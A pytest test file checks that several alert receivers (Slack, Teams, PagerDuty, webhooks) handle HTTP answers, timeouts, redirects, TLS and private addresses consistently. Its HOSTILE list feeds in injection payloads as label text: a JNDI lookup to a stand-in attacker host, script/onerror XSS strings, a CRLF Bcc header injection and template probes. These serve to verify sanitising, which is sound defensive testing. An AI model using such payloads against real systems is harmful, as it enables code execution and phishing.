"""One contract for all receivers, over real HTTP on this machine."""

from __future__ import annotations

import json
import logging
import socket
from dataclasses import dataclass, replace

import pytest

from alerting.evidence import clean
from alerting.mirror import AlertmanagerTarget
from alerting.receivers.access import Access, Credentials, Proxy
from alerting.receivers.pagerduty import PagerDutyReceiver
from alerting.receivers.slack import SlackReceiver
from alerting.receivers.slack_bot import SlackBotReceiver
from alerting.receivers.slack_message import size
from alerting.receivers.teams import TeamsReceiver
from alerting.receivers.templated import TemplatedReceiver
from alerting.receivers.tls import Tls
from alerting.receivers.trust import PUBLIC_ONLY
from alerting.receivers.webhook import WebhookReceiver
from alerting.routing import Route
from alerting.secret_references import SecretReference
from telemetry.errors import ConfigError
from tests.alerting.hook_server import HookServer, TlsHookServer, drip, raw, silence, status
from tests.alerting.mail_server import make_certificate
from tests.alerting.makers import LOOPBACK, T0, finding, notification, run, set_up

KEY = "0123456789abcdef"


def slack(url, monkeypatch, deadline_s):
    monkeypatch.setenv("TEST_HOOK", url)
    return SlackReceiver("oncall", SecretReference("env", "TEST_HOOK"), deadline_s=deadline_s, trust=LOOPBACK)


def webhook(url, monkeypatch, deadline_s):
    monkeypatch.setenv("TEST_SECRET", "a secret of the tests")
    return WebhookReceiver("oncall", url, SecretReference("env", "TEST_SECRET"), deadline_s=deadline_s, trust=LOOPBACK)


def rich_webhook(url, monkeypatch, deadline_s):
    return WebhookReceiver("oncall", url, format="tailwatch", deadline_s=deadline_s, trust=LOOPBACK)


def guarded_webhook(url, monkeypatch, deadline_s):
    """With all that can be particular to how it is called, beside a proxy."""
    monkeypatch.setenv("TEST_PASSWORD", "p" * 20)
    credentials = Credentials(SecretReference("env", "TEST_PASSWORD"), "Basic", "tailwatch")
    headers = (("X-Scope-OrgID", "inference"), ("X-Api-Key", SecretReference("env", "TEST_PASSWORD")))
    access = Access(credentials, headers, Proxy(environment=False), Tls(min_version="TLS12", server_name="localhost"))
    return WebhookReceiver(
        "oncall", url, deadline_s=deadline_s, trust=LOOPBACK, access=access, part="2", max_alerts=5
    )  # fmt: skip


def pagerduty(url, monkeypatch, deadline_s):
    monkeypatch.setenv("TEST_KEY", "k" * 32)
    return PagerDutyReceiver("oncall", SecretReference("env", "TEST_KEY"), url, deadline_s=deadline_s, trust=LOOPBACK)


def teams(url, monkeypatch, deadline_s):
    monkeypatch.setenv("TEST_HOOK", url)
    return TeamsReceiver("oncall", SecretReference("env", "TEST_HOOK"), deadline_s=deadline_s, trust=LOOPBACK)


def templated(url, monkeypatch, deadline_s):
    return TemplatedReceiver("oncall", url, '{"text": {{ headline | tojson }}}', deadline_s=deadline_s, trust=LOOPBACK)


def slack_bot(url, monkeypatch, deadline_s):
    monkeypatch.setenv("TEST_BOT", "xoxb-1")
    reference = SecretReference("env", "TEST_BOT")
    return SlackBotReceiver("oncall", reference, "C042", deadline_s=deadline_s, url=url, trust=LOOPBACK)


@pytest.fixture(scope="module")
def certificate(tmp_path_factory):
    return make_certificate(tmp_path_factory.mktemp("tls"))


@dataclass
class Mirrored:
    """An Alertmanager that is kept informed, asked as receivers are."""

    target: AlertmanagerTarget

    def send(self, told, _key, now_ns):
        return self.target.send([dict(alert["labels"]) for alert in told.alerts], now_ns)


def alertmanager_target(url, _monkeypatch, deadline_s):
    return Mirrored(AlertmanagerTarget(url, trust=LOOPBACK, deadline_s=deadline_s))


RECEIVERS = [slack, slack_bot, webhook, rich_webhook, guarded_webhook, pagerduty, teams, templated]
"""Whoever adds a receiver adds it here, and has it checked."""
CALLERS = [*RECEIVERS, alertmanager_target]
"""Whatever calls others over HTTP."""


@pytest.fixture(params=RECEIVERS, ids=lambda make: make.__name__)
def make(request, monkeypatch):
    def make(url, deadline_s=5.0):
        return request.param(url, monkeypatch, deadline_s)

    return make


@pytest.fixture(params=CALLERS, ids=lambda make: make.__name__)
def caller(request, monkeypatch):
    def make(url, deadline_s=5.0):
        return request.param(url, monkeypatch, deadline_s)

    make.reads_answers = request.param is slack_bot
    return make


SAID = '{"ok": true, "ts": "1.1"}'
"""Good, also for Slack, whose answer says more than its status."""
NOT_SLACKS = {"no content", "ok, with an endless body", "ok, with a huge body", "ok, in another tongue"}

ANSWERS = {
    "ok": (status(200, SAID), "delivered", None),
    "ok, in another tongue": (status(200, "<html>"), "delivered", None),
    "ok, with a huge body": (status(200, "x" * 3_000_000), "delivered", None),
    "400, with a huge body": (status(400, "x" * 3_000_000), "permanent", None),
    "no content": (status(204, ""), "delivered", None),
    "ok, with an endless body": (drip(b"HTTP/1.1 200 OK\r\nContent-Length: 9999999\r\n\r\n", b"x"), "delivered", None),
    "429 with seconds": (status(429, Retry_After="7"), "transient", 7.0),
    "429 with a date": (status(429, Retry_After="Tue, 14 Nov 2023 22:13:50 GMT"), "transient", 30.0),
    "429 with nonsense": (status(429, Retry_After="soon"), "transient", None),
    "503 with seconds": (status(503, Retry_After="99999999"), "transient", 3600.0),
    "500": (status(500, "boom"), "transient", None),
    "500, with a slow body": (drip(b"HTTP/1.1 500 No\r\nContent-Length: 99999999\r\n\r\n", b"x"), "transient", None),
    "408": (status(408), "transient", None),
    "400": (status(400, "invalid_payload"), "permanent", None),
    "404": (status(404, "no_service"), "permanent", None),
    "410": (status(410), "permanent", None),
    "redirect": (status(302, Location="http://127.0.0.1:1/elsewhere"), "permanent", None),
    "not HTTP": (raw(b"SSH-2.0-OpenSSH_9.6\r\n"), "transient", None),
    "nothing, and gone": (raw(b""), "transient", None),
    "half a header": (raw(b"HTTP/1.1 200 OK\r\nContent-"), "transient", None),
}  # fmt: skip


@pytest.mark.parametrize("case", ANSWERS)
def test_every_answer_is_understood(caller, hook, case):
    hook.otherwise, kind, retry_after_s = ANSWERS[case]
    if caller.reads_answers and case in NOT_SLACKS:
        kind = "transient"
    outcome = caller(hook.url, deadline_s=1.5).send(notification(), KEY, T0)
    assert (outcome.kind, outcome.retry_after_s) == (kind, retry_after_s)
    assert len(hook.requests) == 1, "one attempt is one request"
    assert bool(outcome.reason) == (kind != "delivered")
    assert hook.url not in outcome.reason


@pytest.mark.parametrize(
    "answer", [silence, drip(b"HTTP/1.1 200 OK\r\nX-Slow: ", b"y")], ids=["silent", "slow headers"]
)
def test_who_does_not_answer_in_time_is_tried_again(caller, hook, answer):
    hook.otherwise = answer
    outcome = caller(hook.url, deadline_s=0.2).send(notification(), KEY, T0)
    assert (outcome.kind, outcome.reason) == ("transient", "no answer within 0.2 s")


def test_who_is_not_there_is_tried_again(caller):
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
    outcome = caller(f"http://127.0.0.1:{port}/hook").send(notification(), KEY, T0)
    assert outcome.kind == "transient"
    assert "refused" in outcome.reason


def test_whose_name_nobody_knows_is_tried_again(caller):
    outcome = caller("http://nobody.invalid/hook").send(notification(), KEY, T0)
    assert (outcome.kind, "nobody.invalid" in outcome.reason) == ("transient", False)
    assert outcome.reason


@pytest.mark.parametrize(
    "url", ["ftp://127.0.0.1/x", "not a url", "http://", "http://[::1", "http://127.0.0.1:99999/x"]
)
def test_what_is_no_address_is_given_up(caller, url):
    assert caller(url).send(notification(), KEY, T0).kind == "permanent"


@pytest.mark.parametrize("code", [301, 302, 303, 307, 308])
def test_nobody_is_called_to_whom_an_answer_leads(caller, hook, code):
    with HookServer() as elsewhere:
        hook.otherwise = status(code, Location=elsewhere.url)
        outcome = caller(hook.url).send(notification(), KEY, T0)
        assert elsewhere.requests == []
    assert (outcome.kind, outcome.reason) == (
        "permanent", f"answered {code}: redirects are not followed, configure the address that it leads to",
    )  # fmt: skip


def test_whose_certificate_nobody_vouches_for_is_told_nothing_and_tried_again(caller, certificate):
    with TlsHookServer(certificate) as server:
        outcome = caller(server.url.replace("http://127.0.0.1", "https://localhost")).send(notification(), KEY, T0)
        assert (outcome.kind, outcome.reason) == (
            "transient", "could not be reached: TLS failed: its certificate is signed by itself",
        )  # fmt: skip
        assert server.requests == []


def test_who_is_not_public_is_called_only_where_that_is_allowed(caller, hook):
    made = caller(hook.url)
    if isinstance(made, Mirrored):
        made.target = replace(made.target, trust=PUBLIC_ONLY)
    else:
        made = replace(made, trust=PUBLIC_ONLY)
    outcome = made.send(notification(), KEY, T0)
    assert (outcome.kind, hook.requests) == ("transient", [])
    assert "write allow_private: [127.0.0.1]" in outcome.reason


HOSTILE = [
    "<!channel> <!here|x> <@U024BE7LH> <https://evil.example|click>",
    "@everyone @channel [click](https://evil.example) ![x](https://evil.example/x.png) `code` *bold* ~gone~",
    "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;\"'",
    "<at>everyone</at> {{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example/x}",
    "x\r\nBcc: eve@evil.example\r\n\r\n.\r\n",
    "\u202egnp.exe\u2066\u200b\x00\x1b[31m\ud800",
    "𝕏" * 60_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=["slack", "markdown", "html", "teams", "lines", "invisible", "long"])
def test_what_labels_hold_is_told_whole_by_every_receiver_and_means_nothing(make, hook, text):
    """As alerting hands it on: cleaned of what no database and no JSON can hold."""
    told = notification()
    dirty = {
        "incident": {
            **told.incident, **dict.fromkeys(["title", "service", "slo"], text), "slice": {"x": text, text: "x"},
        },
        "evidence": {
            **told.evidence, "summary": text,
            "attribution": [{"dimension": text, "value": text, "bad": 1, "total": 2}] * 9,
            "changes": [{"what": text, "before": text, "after": text}] * 9,
        },
        "alerts": [{**told.alerts[0], "name": text, "summary": text, "labels": {"alertname": text, "x": text}}],
        "runbook": {**told.runbook, "title": text, "first_step": text},
    }  # fmt: skip
    hook.otherwise = status(200, SAID)
    receiver = make(hook.url)
    assert receiver.send(notification(**clean(dirty)), KEY, T0).kind == "delivered"
    (sent,) = hook.requests
    assert isinstance(sent.document, dict), "JSON, whatever is in it"
    if isinstance(receiver, SlackReceiver | SlackBotReceiver):
        shown = json.dumps([sent.document["text"], sent.document["blocks"][1:]])
        assert "<" not in shown.replace("\\u003c", "<"), "no mention, no link"
        assert size(sent.document["blocks"]) <= 12_000
    if isinstance(receiver, TeamsReceiver):
        (attachment,) = sent.document["attachments"]
        assert {block["type"] for block in attachment["content"]["body"]} == {"RichTextBlock"}, "which reads no markup"
        assert "entities" not in attachment["content"]["msteams"]


def test_a_repeat_has_the_same_key_and_body_and_the_notification_is_left_alone(make, hook):
    receiver, told = make(hook.url), notification()
    before = told.to_json()
    for _ in range(2):
        receiver.send(told, KEY, T0)
    first, second = hook.requests
    assert first.body == second.body
    assert first.headers["idempotency-key"] == second.headers["idempotency-key"] == KEY
    assert first.headers["content-type"].startswith("application/json")
    assert told.to_json() == before


def test_no_address_reaches_the_log(make, hook, caplog):
    with caplog.at_level(logging.DEBUG):
        make(hook.url).send(notification(), KEY, T0)
    assert "/hook" not in caplog.text


def test_a_missing_secret_is_said_at_the_start_and_passes_later(monkeypatch, hook):
    receiver = slack(hook.url, monkeypatch, 5.0)
    receiver.check()
    monkeypatch.delenv("TEST_HOOK")
    with pytest.raises(ConfigError, match="TEST_HOOK is not set"):
        receiver.check()
    with pytest.raises(ConfigError, match="TEST_HOOK is not set"):
        receiver.send(notification(), KEY, T0)
    assert hook.requests == []


def test_what_waits_for_a_secret_is_told_once_it_is_there(lite, monkeypatch, hook):
    alerting = set_up(lite, slack(hook.url, monkeypatch, 5.0), route=Route("oncall"))
    monkeypatch.delenv("TEST_HOOK")
    run(alerting, [finding()], 0, 20)
    (health,) = alerting.health()
    assert (hook.requests, health.last_error) == ([], "the environment variable TEST_HOOK is not set")
    monkeypatch.setenv("TEST_HOOK", hook.url)
    run(alerting, [finding()], 20, 120)
    assert len(hook.requests) == 1
